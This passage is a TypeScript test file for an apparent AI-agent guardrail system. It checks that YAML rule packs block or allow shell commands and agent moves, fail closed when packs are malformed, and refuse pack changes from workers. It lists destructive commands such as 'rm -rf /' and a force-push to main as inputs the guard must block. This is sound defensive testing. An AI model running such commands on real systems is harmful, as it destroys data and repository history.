    expect(await kindOf(ground, "echo danger")).toBe("proceed");
    ground.control.plant("guardrails/own.yaml", STOP);
    expect(await kindOf(ground, "echo danger")).toBe("block");
  });

  it("of a repository only add: one that bears the name of another closes the gate, and both count", async () => {
    const ground = openGround("shipped too");
    ground.put("git.yaml", EMPTY);
    expect(await kindOf(ground, "git push -f origin main", ground.repo)).toBe("block");
    const { problems } = (await ground.guard.list(ground.repo)) as { problems: readonly { why: string }[] };
    expect(problems[0]?.why).toMatch(/called git/);
    expect(await kindOf(ground, "touch x", ground.repo)).toBe("block");
    expect(await kindOf(ground, "ls", ground.repo)).toBe("proceed");
  });

  it("of a person stand in for ours of that name, but for the one that guards the guards", async () => {
    const ground = openGround("shipped too");
    expect(await kindOf(ground, "git push -f origin main")).toBe("block");
    ground.control.plant("guardrails/git.yaml", EMPTY);
    expect(await kindOf(ground, "git push -f origin main")).toBe("proceed");
    ground.control.plant("guardrails/core-safety.yaml", EMPTY);
    expect(await kindOf(ground, "rm -rf /")).toBe("block");
    expect(await kindOf(ground, "touch x")).toBe("block");
  });

  const spoiled: readonly [string, (ground: Ground) => void][] = [
    ["that is no YAML", ({ put }) => put("a.yaml", "rules: [")],
    ["with a typo in a key", ({ put }) => put("a.yaml", "rules:\n  - {id: a, mach: x, action: block}\n")],
    ["that is no file", ({ repo }) => mkdirSync(join(repo, ".looop", "guardrails", "x"))],
    [
      "that is a link",
      ({ repo }) => symlinkSync("/etc/hostname", join(repo, ".looop", "guardrails", "a.yml")),
    ],
    [
      "that leads nowhere",
      ({ repo }) => symlinkSync("/nowhere", join(repo, ".looop", "guardrails", "a.yaml")),
    ],
    [
      "that is not UTF-8",
      ({ repo }) => writeFileSync(join(repo, ".looop", "guardrails", "a.yaml"), Buffer.from([0xff, 0xfe])),
    ],
    ["that is too large", ({ put }) => put("a.yaml", `# ${"x".repeat(300_000)}\n${EMPTY}`)],
  ];
  it.each(spoiled)("%s close the gate until mended, and the others count on", async (title, spoil) => {
    const ground = openGround();
    ground.put("team.yaml", STOP);
    spoil(ground);
    const closes = title !== "that is no file"; // a directory is no pack
    expect(await kindOf(ground, "touch x", ground.repo)).toBe(closes ? "block" : "proceed");
    expect(await kindOf(ground, "ls", ground.repo)).toBe("proceed");
    expect(await kindOf(ground, "echo danger", ground.repo)).toBe("block");
    expect(await kindOf(ground, "touch x")).toBe("proceed");
  });

  it("that cannot be listed are not gone (I12)", async () => {
    const ground = openGround();
    ground.control.arm({ method: "list", key: "guardrails", effect: { kind: "fail", reason: "permission" } });
    expect(await kindOf(ground, "touch x")).toBe("block");
    ground.control.plant("guardrails/own.yaml", STOP);
    ground.control.arm({
      method: "read",
      key: "guardrails/own.yaml",
      effect: { kind: "fail", reason: "io" },
    });
    expect(await kindOf(ground, "touch x")).toBe("block");
    expect(await kindOf(ground, "touch x")).toBe("proceed");
    const torn = createGuard({
      store: memoryStore({ clock: manualClock() }).store,
      guardFiles: fileGuards(
        () => 0,
        () => undefined,
      ),
      events: { record: async () => ({ kind: "ok" }) },
      journal: { write: async () => ({ kind: "ok" }) },
    });
    expect(await kindOf({ ...ground, guard: torn }, "touch x")).toBe("block");
  });

  it("have one hash whatever their order, and another one with every change of a rule", () => {
    const one = packOf(STOP, "a");
    const two = packOf(EMPTY, "b");
    const found = (...packs: Pack[]) =>
      composed({ packs, problems: [] }, { packs: [], problems: [] }, { packs: [], problems: [] }).hash;
    expect(found(one, two)).toBe(found(two, one));
    expect(found(one)).not.toBe(found(one, two));
    expect(found(packOf(STOP.replace("block", "approve"), "a"))).not.toBe(found(one));
    expect(found(packOf(`${STOP}    # a remark\n`, "a"))).toBe(found(one));
  });
});

describe("a person", () => {
  it("adds a pack, and takes it away, and both are told", async () => {
    const ground = openGround();
    const { guard } = ground;
    expect(await guard.add({ name: "team.yaml", text: STOP }, ADA)).toMatchObject({
      kind: "done",
      summary: "guard add team: 1 rules",
    });
    expect(ground.control.text("guardrails/team.yaml")).toBe(STOP);
    expect(await kindOf(ground, "echo danger")).toBe("block");
    expect(await guard.add({ name: "team.yaml", text: STOP }, ADA)).toMatchObject({ kind: "nothing" });
    expect(await guard.add({ name: "team.yaml", text: EMPTY }, ADA)).toMatchObject({
      kind: "refused",
      field: "pack",
    });
    expect(await guard.remove("team", ADA)).toMatchObject({ kind: "done" });
    expect(await kindOf(ground, "echo danger")).toBe("proceed");
    expect((await ground.journal()).map((line) => line.split(" ").slice(3).join(" "))).toEqual([
      "guard add team: 1 rules",
      "guard remove team",
    ]);
  });

  it("gets a copy of a shipped one, to be edited", async () => {
    const ground = openGround("shipped too");
    expect(await ground.guard.add({ name: "git" }, ADA)).toMatchObject({
      kind: "done",
      summary: expect.stringMatching(/instead of/),
    });
    expect(ground.control.text("guardrails/git.yaml")).toMatch(/^# History/);
    expect(await kindOf(ground, "git push -f origin main")).toBe("block");
    expect(await ground.guard.add({ name: "core-safety" }, ADA)).toMatchObject({ kind: "refused" });
    expect(await ground.guard.add({ name: "nothing" }, ADA)).toMatchObject({
      kind: "refused",
      remedy: expect.stringMatching(/secrets/),
    });
    expect(await ground.guard.remove("cloud", ADA)).toMatchObject({
      kind: "refused",
      why: expect.stringMatching(/always on/),
    });
  });

  it("adds nothing that does not do what its tests say, and can take away what cannot be read", async () => {
    const ground = openGround();
    const wrong = `${STOP}    tests: {catches: [ls]}\n`.replace(
      "{id: stop, match: danger, action: block}",
      "id: stop\n    match: danger\n    action: block",
    );
    expect(await ground.guard.add({ name: "w", text: wrong }, ADA)).toMatchObject({
      kind: "refused",
      why: expect.stringMatching(/does not catch `ls`/),
    });
    ground.control.plant("guardrails/torn.yaml", "rules: [");
    expect(await ground.guard.remove("torn", ADA)).toMatchObject({ kind: "done" });
  });

  it.each([
    { kind: "worker", id: "fix-1", meta: false },
    { kind: "worker", id: "fix-1", meta: true },
    { kind: "pulse" },
  ] as readonly unknown[])("and nobody else: %o", async (actor) => {
    const { guard, control } = openGround();
    control.plant("guardrails/team.yaml", STOP);
    expect(await guard.add({ name: "a", text: EMPTY }, actor as Actor)).toMatchObject({
      kind: "refused",
      field: "actor",
    });
    expect(await guard.remove("team", actor as Actor)).toMatchObject({ kind: "refused", field: "actor" });
    expect(control.text("guardrails/team.yaml")).toBe(STOP);
  });

  it("is shown one rule as it stands in its file, with its rows", async () => {
    const { guard } = openGround("shipped too");
    expect(await guard.explain("git/force-push-main")).toMatchObject({
      rule: { action: "block" },
      text: expect.stringMatching(/^id: force-push-main[\s\S]*message:/),
      catches: expect.arrayContaining(["git push origin :main"]),
      passes: expect.arrayContaining(["git log main"]),
    });
    expect(await guard.explain("force-push")).toMatchObject({
      kind: "refused",
      remedy: "did you mean git/force-push?",
    });
  });
});

// --- moves ---------------------------------------------------------------------------------------------------------

/** No layer but the guardrails. */
const alone = (guard: WholeGuard) => ({
  async evaluate(action: Action) {
    const tested = await guard.test(action);
    if (!("ruling" in tested)) throw new Error(tested.why);
    return tested.ruling;
  },
});

describe("a move", () => {
  const moves: readonly [string, Move, string | undefined][] = [
    ["that does nothing is not judged", { action: "noop" }, undefined],
    ["that tells people something is not judged", { action: "notify", text: "danger" }, undefined],
    ["is its command", { action: "run_shell", cmd: "echo danger" }, "block"],
    ["is its script", { action: "write_sensor", name: "s", script: "#!/bin/sh\necho danger" }, "block"],
    ["is its worker's program", { action: "start_worker", id: "w", prompt: "p", command: "danger" }, "block"],
    ["is its check", { action: "start_worker", id: "w", prompt: "p", verify: "danger" }, "block"],
    ["is what a worker is told", { action: "tell_worker", id: "w", text: "danger" }, "block"],
    ["is its goal", { action: "write_goal", id: "g", body: "danger" }, "block"],
    [
      "is every step of its plan",
      { action: "start_plan", id: "p", goal: "g", steps: [{ title: "t", finish: "danger" }] },
      "block",
    ],
    [
      "is what a step says",
      { action: "start_plan", id: "p", goal: "g", steps: [{ title: "t", description: "danger" }] },
      "block",
    ],
    ["is harmless otherwise", { action: "run_shell", cmd: "git status" }, "proceed"],
  ];
  it.each(moves)("%s", async (_, move, kind) => {
    const { guard, control } = openGround();
    control.plant("guardrails/own.yaml", STOP);
    const judgment = judgeMoves({ judge: alone(guard), guard, dataDir: "/data" });
    const ruling = await judgment.rule(move);
    expect(ruling?.kind).toBe(kind);
    if (kind === "block") expect(ruling?.layer).toBe("guardrail own/stop");
  });

  it("brings the warnings of all its parts", async () => {
    const { guard, control } = openGround();
    control.plant("guardrails/own.yaml", "rules:\n  - {id: hint, match: odd, action: warn, message: look}\n");
    const judgment = judgeMoves({ judge: alone(guard), guard, dataDir: "/data" });
    const ruling = await judgment.rule({
      action: "start_worker",
      id: "w",
      prompt: "odd",
      verify: "test -f odd",
    });
    expect(ruling).toMatchObject({
      kind: "proceed",
      warnings: [expect.stringMatching(/own\/hint: look/), expect.anything()],
    });
  });

  it("is bound to the rules as they stand, and to none while they cannot be read (I12)", async () => {
    const { guard, control } = openGround();
    const judgment = judgeMoves({ judge: alone(guard), guard, dataDir: "/data" });
    const before = await judgment.rules();
    control.plant("guardrails/own.yaml", STOP);
    const after = await judgment.rules();
    expect([before.kind, after.kind]).toEqual(["ok", "ok"]);
    expect(after).not.toEqual(before);
    control.plant("guardrails/own.yaml", "rules: [");
    expect(await judgment.rules()).toMatchObject({
      kind: "unreadable",
      troubles: [{ path: "guardrails/own.yaml" }],
    });
  });

  it("leaves nothing out that it would do", () => {
    const all = actionsOf(
      { action: "start_worker", id: "w", prompt: "p", command: "c", verify: "v" },
      "/data",
    );
    expect(all.map(({ kind }) => kind)).toEqual(["move", "shell", "shell"]);
    const plan = { action: "start_plan", id: "p", goal: "g", steps: [{ title: "t", finish: "f" }] } as const;
    const placed = (cwd: string | undefined) =>
      actionsOf({ ...plan, steps: [...plan.steps], ...(cwd && { cwd }) }, "/data").map((action) =>
        "cwd" in action ? action.cwd : undefined,
      );
    expect(placed("/app")).toEqual(["/app", "/app", "/app"]);
    expect(placed(undefined)).toEqual(["/data/workspace", "/data/workspace", "/data/workspace"]);
  });
});
